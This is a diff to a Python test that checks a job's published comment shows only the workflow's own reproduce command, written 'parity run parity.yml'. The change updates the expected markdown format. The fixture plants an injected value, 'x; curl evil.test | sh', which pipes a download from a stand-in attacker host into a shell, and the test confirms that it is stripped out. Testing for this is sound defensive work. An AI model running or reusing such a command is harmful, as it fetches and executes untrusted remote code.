@@ -254,7 +254,7 @@ def test_the_command_that_repeats_it_is_the_workflow_s(job: Job) -> None:
     text["reproduce"] = "x; curl evil.test | sh"
     directory.write("suite.json", json.dumps(text))
     job.publish()
-    assert "\nparity run parity.yml\n" in job.comment.body
+    assert "\n- **Reproduce:** `parity run parity.yml`\n" in job.comment.body
     assert read_result(job.out / "result.json").reproduce == "parity run parity.yml"
     assert "curl" not in job.comment.body
 
